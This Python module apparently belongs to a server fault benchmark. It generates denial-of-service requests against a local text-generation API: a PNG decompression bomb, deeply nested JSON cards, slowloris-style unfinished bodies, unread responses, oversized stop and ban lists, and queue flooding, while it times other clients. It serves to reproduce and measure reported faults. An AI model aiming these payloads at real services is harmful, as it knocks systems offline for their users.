"""Issue 37's hostile requests, for bench_server_faults.py: each one sent while other
clients' short requests are timed. `scale` shrinks every attack's size (1: as the probe
sent them; 0.01 to prove the script runs)."""

import base64
import http.client
import json
import os
import socket
import struct
import threading
import time
import zlib

PROMPT = "Aqua's Persona: A goddess of water.\n<START>\nYou: Hello!\nAqua:"
CAP_S = 60.0  # a short request not done within this long counts as this long


def _request(port, method, path, raw=None, content_type="application/json", timeout=120):
    """(status, body bytes), or (0, b"") when the connection failed or timed out."""
    try:
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
        connection.request(method, path, raw, {"Content-Type": content_type} if raw else {})
        response = connection.getresponse()
        data = response.read()
        connection.close()
        return response.status, data
    except OSError:
        return 0, b""


def ping_seconds(port, count: int = 10) -> list:
    """Seconds of count GET /api/extra/version calls (no generation: the event loop)."""
    seconds = []
    for _ in range(count):
        started = time.monotonic()
        status, _ = _request(port, "GET", "/api/extra/version", timeout=CAP_S)
        seconds.append(time.monotonic() - started if status == 200 else CAP_S)
    return seconds


def during(port, attack, *args) -> dict:
    """Runs attack(port, *args) in a thread and times pings beside it; returns the pings
    and what the attack reported."""
    report = {}
    worker = threading.Thread(target=lambda: report.update(value=attack(port, *args)),
                              daemon=True)
    worker.start()
    time.sleep(0.3)
    pings = ping_seconds(port)
    worker.join(600)
    return {"pings": pings, "report": report.get("value")}


def bans_against_stops(port, scale: float) -> str:
    """Finding 1: a 234 KB body of stops and bans; its client leaves after 1 s."""
    count = max(10, int(11_000 * scale))
    body = json.dumps({"prompt": PROMPT, "max_length": 8,
                       "stop_sequence": [f"s{i:07d}" for i in range(count)],
                       "banned_strings": [f"b{i:07d}" for i in range(count)]}).encode()
    status, _ = _request(port, "POST", "/api/v1/generate", body, timeout=1)
    return f"status {status or 'left after 1 s'}"


def zlib_bomb(size: int) -> bytes:
    packer, block = zlib.compressobj(9), b"A" * (1 << 20)
    return b"".join(packer.compress(block) for _ in range(max(1, size >> 20))) + packer.flush()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def card_bomb(port, scale: float) -> str:
    """Finding 2: a PNG card whose zTXt chunk inflates to about 2 GB (scale 1)."""
    png = (b"\x89PNG\r\n\x1a\n" + _chunk(b"zTXt", b"chara\0\0" + zlib_bomb(int(2e9 * scale)))
           + _chunk(b"IEND", b""))
    status, _ = _request(port, "POST", "/api/pyg-edge/character", png,
                         "application/octet-stream")
    return f"status {status}, {len(png) // 1024} KB sent"


def nested_cards(port, scale: float) -> str:
    """Finding 6: cards nested too deep, as JSON and inside a PNG; counts the 5xx."""
    deep = ('{"name": "A", "x": ' + "[" * 100_000 + "]" * 100_000 + "}").encode()
    png = (b"\x89PNG\r\n\x1a\n" + _chunk(b"tEXt", b"chara\0" + base64.b64encode(deep))
           + _chunk(b"IEND", b""))
    statuses = [_request(port, "POST", "/api/pyg-edge/character", raw,
                         "application/octet-stream")[0] for raw in (deep, png)]
    bad = [b'{"prompt": "x", "custom_token_bans": "--5"}',
           b'{"prompt": "x", "logit_bias": {"--5": -100}}']
    statuses += [_request(port, "POST", "/api/v1/generate", raw)[0] for raw in bad]
    return f"{sum(s >= 500 for s in statuses)} 5xx of {len(statuses)}"


def unfinished_bodies(port, scale: float, pid: int) -> str:
    """Finding 3: 250 connections whose bodies never finish; is the server reachable, and
    how many descriptors does it hold?"""
    clients = []
    for _ in range(max(5, int(250 * scale))):
        try:
            client = socket.create_connection(("127.0.0.1", port), timeout=5)
            client.sendall(b"POST /api/v1/generate HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                           b"Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{")
            clients.append(client)
        except OSError:
            break
    time.sleep(2.0)
    fds = len(os.listdir(f"/proc/{pid}/fd"))
    reachable = _request(port, "GET", "/api/extra/version", timeout=10)[0] == 200
    for client in clients:
        client.close()
    return f"{len(clients)} open, server fds {fds}, reachable {reachable}"


def big_tokenize(port, scale: float) -> str:
    """Finding 4: a 1.9 MB text to count."""
    text = "word " * int(380_000 * scale)
    status, _ = _request(port, "POST", "/tokenize", json.dumps({"content": text}).encode())
    return f"status {status}"


def unread_pieces(port, scale: float) -> str:
    """Finding 5: three clients ask /tokenize with pieces for a big text and read nothing."""
    body = json.dumps({"content": "word " * int(380_000 * scale), "with_pieces": True})
    clients = []
    for _ in range(3):
        client = socket.socket()
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        client.connect(("127.0.0.1", port))
        client.sendall(b"POST /tokenize HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: "
                       b"application/json\r\nContent-Length: " + str(len(body)).encode()
                       + b"\r\n\r\n" + body.encode())
        clients.append(client)
    time.sleep(20 * min(1.0, scale * 10) + 1)  # past the write timeout at full scale
    for client in clients:
        client.close()
    return "3 clients never read"


def full_queue(port, scale: float) -> str:
    """Finding 9: many generations at once; how many are refused (503)?"""
    count = max(4, int(60 * scale))
    body = json.dumps({"prompt": PROMPT, "max_length": 60}).encode()
    statuses = []
    threads = [threading.Thread(target=lambda: statuses.append(
        _request(port, "POST", "/api/v1/generate", body)[0]), daemon=True)
        for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(600)
    return f"{statuses.count(503)} of {count} refused (503), {statuses.count(200)} served"


ATTACKS = {"bans x stops": bans_against_stops, "card bomb": card_bomb,
           "nested cards, odd ids": nested_cards, "250 unfinished bodies": unfinished_bodies,
           "1.9 MB tokenize": big_tokenize, "unread tokenize pieces": unread_pieces,
           "full queue": full_queue}
